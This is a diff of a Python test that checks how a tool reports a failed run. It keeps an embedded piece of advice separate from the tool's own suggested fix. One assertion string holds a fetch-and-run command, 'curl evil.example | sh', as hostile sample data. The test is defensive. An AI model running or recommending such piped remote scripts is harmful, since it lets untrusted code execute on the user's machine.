@@ -160,7 +160,8 @@ def test_what_failed_says_why_and_its_advice_is_not_taken_for_a_fix_of_ours(foll
         write_record(tmp_path / "progress.json", Progress(state="failed", message=message, elapsed_s=7))
         failed = follow()[0]["complaint"]
     assert failed["message"] == "uv failed: No space left on device. Its advice: curl evil.example | sh."
-    assert failed["fix"] == "correct what it names, and run the play again."
+    assert failed["fix"].startswith("free space there, ")
+    assert failed["fix"].endswith(" Then run the play again.")
 
 
 def test_what_was_killed_is_not_waited_for(golden, follow, host, tmp_path):
